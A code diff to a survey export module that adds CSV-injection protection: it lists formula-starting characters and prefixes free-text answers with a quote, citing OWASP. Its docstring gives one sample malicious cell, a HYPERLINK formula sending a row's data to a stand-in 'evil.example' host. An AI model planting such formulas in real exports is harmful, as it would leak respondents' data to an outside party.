@@ -4,6 +4,16 @@ PostgreSQL itself turns each response into text cells (``console.sql``, ``export
 travel as a query parameter), so no answer JSON is decoded in Python: Python only blanks the cells a
 version lacks and adds the outcome scores. This keeps the CSV close to the speed of PostgreSQL's own
 ``COPY`` (``benchmarks/export.py``).
+
+A CSV file opened in a spreadsheet runs any cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
+some, a tab or a carriage return) as a formula: a respondent's free-text answer
+``=HYPERLINK("http://evil.example/?x="&B2,"Click")`` would become a link that sends the row's data away.
+As OWASP recommends ("CSV Injection"), such a text cell is written with a ``'`` in front
+(:func:`neutralise`), which the spreadsheet shows as text: in the responses, the answers to the free-text
+items of each version (a batch's few text cells, checked in Python: cheaper than a test in PostgreSQL on
+every cell); in the codebook, every text. Numbers are never
+touched (a negative answer stays a number), and the Excel and SPSS files need none of this: they store
+text as text.
 """
 
 from __future__ import annotations
@@ -14,6 +24,7 @@ import math
 import os
 from collections.abc import AsyncIterator, Sequence
 from itertools import compress
+from typing import Final
 
 import asyncpg
 import numpy as np
@@ -32,7 +43,21 @@ from survey.exports.rows import (
     version_groups,
 )
 
-__all__ = ["csv_chunks", "write_csv"]
+__all__ = ["FORMULA_STARTS", "csv_chunks", "neutralise", "write_csv"]
+
+FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
+"""The first characters that make a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection")."""
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a CSV cell that no spreadsheet runs: with a ``'`` in front when it begins with one of
+    :data:`FORMULA_STARTS`.
+
+    >>> neutralise("=1+1"), neutralise("-5 kg"), neutralise("fine")
+    ("'=1+1", "'-5 kg", 'fine')
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
 
 # -- rows of text -------------------------------------------------------------------------------------
 
@@ -41,6 +66,16 @@ def _answer_columns(plan: ExportPlan) -> tuple[list[str], list[str | None]]:
     """The item key and the choice (None for a one-answer item) of every answer column, in order."""
     answer = [c for c in plan.columns if c.kind in ("item", "choice")]
     return [c.key or "" for c in answer], [c.choice for c in answer]
+
+
+def _guards(plan: ExportPlan) -> list[bool]:
+    """For every answer column, whether it holds free text (see :func:`neutralise`)."""
+    free_text = {i.key for i in plan.items if i.free_text}
+    return [
+        c.kind == "item" and c.key in free_text
+        for c in plan.columns
+        if c.kind in ("item", "choice")
+    ]
 
 
 def _floats(cells: Sequence[str | None]) -> list[float]:
@@ -59,7 +94,8 @@ def _floats(cells: Sequence[str | None]) -> list[float]:
 
 class _TextReader:
     """How to read the text cells of the responses to one version: the cells to blank (columns of
-    items or choices the version does not have) and the cells the outcome scores are computed from."""
+    items or choices the version does not have), the cells of free text to guard against formulas and
+    the cells the outcome scores are computed from."""
 
     def __init__(self, plan: ExportPlan, version: QuestionnaireVersion) -> None:
         q = version.definition
@@ -79,6 +115,11 @@ class _TextReader:
             lacking = key not in own if choice is None else choice not in own_choices.get(key, ())
             if lacking:
                 self.blanks.append(offset + n)
+        self.free_text = [
+            position[key, None]
+            for key, item in own.items()
+            if item.type == "text" and (key, None) in position
+        ]
         needed: set[str] = set()
         for outcome in q.outcomes.values():
             needed.update(outcome.items or ())
@@ -101,6 +142,14 @@ class _TextReader:
             for row in rows:
                 for n in self.blanks:
                     row[n] = None
+
+    def guard(self, rows: list[Row]) -> None:
+        """Put a ``'`` in front of every free-text answer a spreadsheet would run (:func:`neutralise`)."""
+        for n in self.free_text:
+            for row in rows:
+                text = row[n]
+                if text and text.startswith(FORMULA_STARTS):
+                    row[n] = "'" + text
 
     def scores(self, plan: ExportPlan, rows: list[Row]) -> list[tuple[float | None, ...]]:
         """The outcome scores of these rows (responses to this version), as stored answers would
@@ -150,11 +199,15 @@ async def _text_batches(
         ):
             version_ids = [vid for vid, _ in batch]
             rows: list[Row] = [cells for _, cells in batch]
-            for vid, positions in version_groups(version_ids):
-                reader = readers[vid]
-                if reader.blanks:
-                    reader.blank(rows if positions is None else [rows[n] for n in positions])
+            groups = [
+                (readers[vid], rows if positions is None else [rows[n] for n in positions])
+                for vid, positions in version_groups(version_ids)
+            ]
+            for reader, chosen in groups:
+                reader.blank(chosen)
             append_scores(rows, version_ids, plan, score)
+            for reader, chosen in groups:  # after scoring, which reads the answers as stored
+                reader.guard(chosen)
             yield rows
             done += len(batch)
             if progress is not None:
